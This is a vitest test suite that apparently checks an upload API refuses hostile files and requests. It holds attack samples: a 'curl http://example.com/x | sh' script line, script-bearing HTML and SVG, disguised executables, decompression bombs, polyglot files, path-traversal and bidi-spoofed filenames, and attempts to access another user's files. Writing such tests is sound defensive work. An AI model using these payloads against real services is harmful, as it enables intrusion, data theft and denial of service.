import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { randomBytes } from 'node:crypto';
import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { uploadedFiles } from '@portal/db/schema';
import { createTestContext, signUpArtist, type ApiResult, type TestClient, type TestContext } from '../../test/harness.ts';
import { zipOf } from '../batch-import/test-zip.ts';
import { encodeFlac, initUpload, makeWav, mergeParts, partOf, sendPart, squareImage, uploadWhole } from './test-files.ts';

/**
 * The upload attack corpus (issue 11 §4): hostile files and requests sent through every door a file comes in by
 * (chunked upload, direct upload with a storage token, dump mode from a URL). Each is refused with a 4xx and a
 * translated message; afterwards the attacker owns no file, no refused object stays in storage and nothing was
 * written outside the storage folder. The bulk import's own archive refusals (zip bombs, climbing paths, entity
 * bombs inside a catalogue zip) are in batch-import/batch-tasks.test.ts and ern/read-ern.test.ts.
 */

const KiB = 1024;
/** Marks every name this test makes up, so anything written under it can be found. */
const token = `escape-${randomBytes(6).toString('hex')}`;

let sandbox: string;
let storageDir: string;
let ctx: TestContext;
let attacker: { client: TestClient; userId: number };
let source: Server;
let sourceBase: string;
const served = new Map<string, { bytes: Buffer; type: string }>();

beforeAll(async () => {
  sandbox = await mkdtemp(join(tmpdir(), 'upload-attacks-'));
  storageDir = join(sandbox, 'storage');
  ctx = await createTestContext({ storageDir, dumpAllowPrivateAddresses: true });
  attacker = await signUpArtist(ctx);
  source = createServer((req, res) => {
    const file = served.get(decodeURIComponent(new URL(req.url ?? '/', 'http://x').pathname.slice(1)));
    if (!file) return res.writeHead(404).end();
    res.writeHead(200, { 'content-type': file.type }).end(file.bytes);
  });
  await new Promise<void>((resolve) => source.listen(0, '127.0.0.1', resolve));
  sourceBase = `http://127.0.0.1:${(source.address() as AddressInfo).port}`;
});
afterAll(async () => {
  source?.closeAllConnections();
  source?.close();
  await ctx?.close();
  await rm(sandbox, { recursive: true, force: true });
});

const pad = (bytes: Buffer, size = 96 * KiB) => (bytes.length >= size ? bytes : Buffer.concat([bytes, Buffer.alloc(size - bytes.length)]));
const html = Buffer.from('<!doctype html><html><body><script>fetch("/api/users/info").then(r=>r.text()).then(alert)</script></body></html>');

/** A PNG header claiming 100,000 × 100,000 pixels, with a few bytes of image data: a decompression bomb's shape. */
function pngClaimingPixels(side: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    return Buffer.concat([length, Buffer.from(type, 'latin1'), data, Buffer.alloc(4)]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', header), chunk('IDAT', Buffer.alloc(64 * KiB)), chunk('IEND', Buffer.alloc(0))]);
}

/** A WAV whose data chunk claims more bytes than the file holds. */
function wavClaimingMore(): Buffer {
  const wav = Buffer.from(makeWav({ seconds: 1 }));
  wav.writeUInt32LE(wav.readUInt32LE(40) * 50, 40);
  return wav;
}

interface HostileFile {
  what: string;
  kind: 'audio' | 'cover';
  fileName: string;
  mimeType: string;
  bytes: () => Promise<Buffer> | Buffer;
  /** The message the merge, commit or dump answers with. */
  key: string;
}

const hostileFiles: HostileFile[] = [
  {
    what: 'an ELF executable named as a WAV',
    kind: 'audio',
    fileName: 'master.wav',
    mimeType: 'audio/wav',
    bytes: async () => pad(await readFile('/bin/true')),
    key: 'upload_relo_type_not_supported',
  },
  {
    what: 'a Windows executable named as a JPEG',
    kind: 'cover',
    fileName: 'cover.jpg',
    mimeType: 'image/jpeg',
    bytes: () => pad(Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'), Buffer.from('This program cannot be run in DOS mode.')])),
    key: 'upload_relo_type_not_supported',
  },
  {
    what: 'a shell script named as a FLAC',
    kind: 'audio',
    fileName: 'master.flac',
    mimeType: 'audio/flac',
    bytes: () => pad(Buffer.from('#!/bin/sh\ncurl http://example.com/x | sh\n')),
    key: 'upload_relo_type_not_supported',
  },
  { what: 'an HTML page named as a PNG', kind: 'cover', fileName: 'cover.png', mimeType: 'image/png', bytes: () => pad(html), key: 'upload_relo_type_not_supported' },
  {
    what: 'an SVG with a script named as a PNG',
    kind: 'cover',
    fileName: 'cover.png',
    mimeType: 'image/png',
    bytes: () => pad(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')),
    key: 'upload_relo_type_not_supported',
  },
  {
    what: 'a zip bomb named as a PNG',
    kind: 'cover',
    fileName: 'cover.png',
    mimeType: 'image/png',
    bytes: () => zipOf({ 'a.bin': Buffer.alloc(40 * 1024 * KiB) }),
    key: 'upload_relo_type_not_supported',
  },
  {
    what: 'a PNG that is also a zip (a page inside)',
    kind: 'cover',
    fileName: 'cover.png',
    mimeType: 'image/png',
    bytes: async () => Buffer.concat([await squareImage(1400, 'png'), await zipOf({ 'index.html': html })]),
    key: 'upload_trailing_data',
  },
  {
    what: 'a JPEG with an HTML page after its end',
    kind: 'cover',
    fileName: 'cover.jpg',
    mimeType: 'image/jpeg',
    bytes: async () => Buffer.concat([await squareImage(1400, 'jpeg'), html]),
    key: 'upload_trailing_data',
  },
  {
    what: 'a JPEG followed by a JPEG and then a zip',
    kind: 'cover',
    fileName: 'cover.jpg',
    mimeType: 'image/jpeg',
    bytes: async () => Buffer.concat([await squareImage(1400, 'jpeg'), await squareImage(16, 'jpeg'), await zipOf({ 'a.txt': 'x' })]),
    key: 'upload_trailing_data',
  },
  {
    what: 'a WAV with a zip after its RIFF chunk',
    kind: 'audio',
    fileName: 'master.wav',
    mimeType: 'audio/wav',
    bytes: async () => Buffer.concat([makeWav({ seconds: 1 }), await zipOf({ 'index.html': html })]),
    key: 'upload_trailing_data',
  },
  {
    what: 'a FLAC with a zip after its last frame',
    kind: 'audio',
    fileName: 'master.flac',
    mimeType: 'audio/flac',
    bytes: async () => Buffer.concat([encodeFlac(makeWav({ seconds: 1 })), await zipOf({ 'index.html': html })]),
    key: 'upload_decode_error',
  },
  { what: 'a PNG claiming 100,000 × 100,000 pixels', kind: 'cover', fileName: 'cover.png', mimeType: 'image/png', bytes: () => pngClaimingPixels(100_000), key: 'upload_read_error' },
  { what: 'a WAV whose data chunk claims more than the file holds', kind: 'audio', fileName: 'master.wav', mimeType: 'audio/wav', bytes: wavClaimingMore, key: 'upload_decode_error' },
];

function expectRefused(response: ApiResult, key?: string) {
  const { status, body } = response;
  expect(status, JSON.stringify(body)).toBeGreaterThanOrEqual(400);
  expect(status, JSON.stringify(body)).toBeLessThan(500);
  const messageKey = body.baseResponse.details?.[0]?.messageKey ?? body.baseResponse.messageKey;
  if (key) expect(messageKey, JSON.stringify(body)).toBe(key);
  // Translated: the text is a sentence, not the key.
  expect(body.baseResponse.message).not.toBe(messageKey);
  expect(body.baseResponse.message.length).toBeGreaterThan(5);
}

describe('hostile files are refused by every door', () => {
  for (const file of hostileFiles) {
    it(file.what, async () => {
      const bytes = await file.bytes();
      const claimed = { kind: file.kind, fileName: file.fileName, mimeType: file.mimeType };

      expectRefused(await uploadWhole(attacker.client, bytes, { ...claimed, partSize: 64 * KiB }), file.key);

      const issued = await attacker.client.get('/api/upload/vcloud/ststoken', { ...claimed, size: String(bytes.length) });
      expect(issued.status, JSON.stringify(issued.body)).toBe(200);
      const put = await attacker.client.call('PUT', issued.body.data.uploadUrl, { body: bytes, headers: { 'content-type': 'application/octet-stream' } });
      expect(put.status).toBe(200);
      expectRefused(await attacker.client.post('/api/upload/vcloud/commit', { token: issued.body.data.token }), file.key);

      served.set(file.fileName, { bytes, type: file.mimeType });
      expectRefused(await attacker.client.post('/api/upload/dump', { sourceUrl: `${sourceBase}/${file.fileName}`, kind: file.kind }), file.key);
    });
  }
});

describe('hostile names and requests', () => {
  const wav = makeWav({ seconds: 1 });
  const partSize = 64 * KiB;

  it('names that climb out of a folder, are absolute, or carry control or bidirectional control characters', async () => {
    // U+202E turns "master\u202Evaw.exe" into what reads as "masterexe.wav" (issue 24, finding 8); U+2067 isolates.
    const names = [`../../../../${token}.wav`, `..\\..\\${token}.wav`, `/tmp/${token}.wav`, `${token}\u0000.wav`, `${token}\n.wav`, '..', 'master\u202Evaw.exe', 'master\u2067.wav'];
    for (const fileName of names) {
      expectRefused(await initUpload(attacker.client, wav, { fileName }), 'upload_file_name_invalid');
      expectRefused(await attacker.client.get('/api/upload/vcloud/ststoken', { kind: 'audio', fileName, size: String(wav.length), mimeType: 'audio/wav' }), 'upload_file_name_invalid');
      expectRefused(await attacker.client.post('/api/upload/dump', { sourceUrl: `${sourceBase}/x.wav`, kind: 'audio', fileName }), 'upload_file_name_invalid');
    }
    // A URL whose last segment climbs: the name is cut to the segment's own characters, the fetch is not found.
    served.set(`${token}.wav`, { bytes: wav, type: 'audio/wav' });
    const climbing = await attacker.client.post('/api/upload/dump', { sourceUrl: `${sourceBase}/a/..%2F..%2F${token}.wav`, kind: 'audio' });
    expectRefused(climbing);
  });

  it('part indexes that are negative, fractional, past the end or repeated; a merge before every part is in', async () => {
    const init = (await initUpload(attacker.client, wav, { partSize })).body.data;
    for (const index of ['-1', '1.5', '3', '99999999', '0x1', '']) {
      expectRefused(await sendPart(attacker.client, init, index as unknown as number, partOf(wav, partSize, 0)));
    }
    expectRefused(await sendPart(attacker.client, init, 0, partOf(wav, partSize, 0)).then(() => mergeParts(attacker.client, init, [0, 1, 2])), 'upload_part_missing');
    await sendPart(attacker.client, init, 1, partOf(wav, partSize, 1));
    await sendPart(attacker.client, init, 2, partOf(wav, partSize, 2));
    for (const partIds of [[0, 0, 1, 2], [0, 1, 1], [-1, 0, 1, 2], [0, 2, 1], []]) expectRefused(await mergeParts(attacker.client, init, partIds));
    // The upload is still whole and can finish: the refusals changed nothing.
    expect((await mergeParts(attacker.client, init, [0, 1, 2])).status).toBe(200);
  });

  it('another account’s upload id, object key and files', async () => {
    const victim = await signUpArtist(ctx);
    const victimInit = (await initUpload(victim.client, wav, { partSize })).body.data;
    for (const index of [0, 1, 2]) await sendPart(victim.client, victimInit, index, partOf(wav, partSize, index));
    expectRefused(await sendPart(attacker.client, victimInit, 0, Buffer.alloc(partSize)));
    expectRefused(await mergeParts(attacker.client, victimInit, [0, 1, 2]));
    // Naming the victim's upload at init starts the attacker's own upload, showing none of the victim's parts.
    const resumed = await attacker.client.post('/api/upload/partial/init', { kind: 'audio', fileName: 'master.wav', mimeType: 'audio/wav', size: wav.length, partSize, uploadId: victimInit.uploadId });
    expect(resumed.body.data.uploadId).not.toBe(victimInit.uploadId);
    expect(resumed.body.data.uploadedParts ?? []).toEqual([]);

    const attackerInit = (await initUpload(attacker.client, wav, { partSize })).body.data;
    for (const objectKey of [victimInit.objectKey, `../../${token}`, `uploads/${victim.userId}/../../${token}.wav`]) {
      expectRefused(await sendPart(attacker.client, { ...attackerInit, objectKey }, 0, partOf(wav, partSize, 0)));
      expectRefused(await mergeParts(attacker.client, { ...attackerInit, objectKey }, [0]));
    }

    const victimFile = (await mergeParts(victim.client, victimInit, [0, 1, 2])).body.data;
    expect((await attacker.client.get(victimFile.url)).status).toBe(404);
    for (const path of [`/api/files/..%2F..%2F${token}`, '/api/files/..%2f..%2fetc%2fpasswd', `/api/files/${encodeURIComponent(victimInit.objectKey)}`]) {
      expect((await attacker.client.get(path)).status).toBe(404);
    }
  });

  it('afterwards: the attacker owns only the one good upload, storage keeps no refused file, nothing was written outside storage', async () => {
    const owned = await ctx.services.db.select({ size: uploadedFiles.size }).from(uploadedFiles).where(eq(uploadedFiles.userId, attacker.userId));
    expect(owned).toEqual([{ size: wav.length }]);

    const everything = (await readdir(sandbox, { recursive: true, withFileTypes: true })).filter((entry) => entry.isFile()).map((entry) => relative(sandbox, join(entry.parentPath, entry.name)));
    expect(everything.filter((path) => !path.startsWith(`storage${'/'}`))).toEqual([]);
    const attackerObjects = everything.filter((path) => path.startsWith(join('storage', 'uploads', String(attacker.userId))) && !path.endsWith('.type'));
    expect(attackerObjects).toHaveLength(1);

    const named = async (folder: string) => (await readdir(folder, { recursive: true }).catch(() => [] as string[])).filter((path) => path.includes(token));
    expect(await named(sandbox)).toEqual([]);
    expect((await readdir(tmpdir())).filter((name) => name.includes(token))).toEqual([]);
    expect((await readdir(process.cwd())).filter((name) => name.includes(token))).toEqual([]);
  });
});
